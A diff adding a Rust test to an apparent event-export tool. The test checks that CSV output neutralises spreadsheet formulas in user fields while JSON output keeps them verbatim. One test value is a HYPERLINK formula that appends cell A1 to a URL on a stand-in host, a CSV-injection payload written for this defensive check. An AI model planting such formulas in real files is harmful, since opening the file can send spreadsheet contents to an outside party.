@@ -153,3 +153,34 @@ fn what_cannot_be_done_is_said_with_what_to_do() {
     assert_eq!(done.status.code(), Some(1));
     assert!(said(&done).contains("name the data folder, the one that `log` is in"), "{done:?}");
 }
+
+/// Whoever opens the file in a spreadsheet carries nothing out that somebody has written into an event.
+#[test]
+fn a_text_that_is_a_formula_is_a_text_in_csv_and_itself_in_json() {
+    let bad = "=HYPERLINK(\"https://x.example?\"&A1)";
+    let world = World::new(&[
+        track("a", "Left", bad, "", 1),
+        track("b", "Left", "@SUM(1)", "", 2),
+        { track("c", "Left", "+15550109999", "", 3) },
+        track("-d", "Left", "-2+3", "", 4),
+    ]);
+    let done = world.export(&["--on", "Left", "--format", "csv", "--feature", "bought"]);
+    let csv = String::from_utf8(done.stdout).unwrap();
+    let mut rows = csv::Reader::from_reader(csv.as_bytes());
+    let cells = rows.records().map(|row| row.unwrap());
+    let cells: Vec<_> = cells.map(|row| (row[1].to_owned(), row[5].to_owned())).collect();
+    let cell = |user: &str, id: &str| (user.to_owned(), id.to_owned());
+    assert_eq!(
+        cells,
+        [
+            cell(&format!("'{bad}"), "a"),
+            cell("'@SUM(1)", "b"),
+            cell("+15550109999", "c"),
+            cell("'-2+3", "'-d"),
+        ]
+    );
+    let done = world.export(&["--on", "Left", "--feature", "bought"]);
+    let row: Value =
+        serde_json::from_slice(done.stdout.split(|it| *it == b'\n').next().unwrap()).unwrap();
+    assert_eq!(row["userId"], bad);
+}
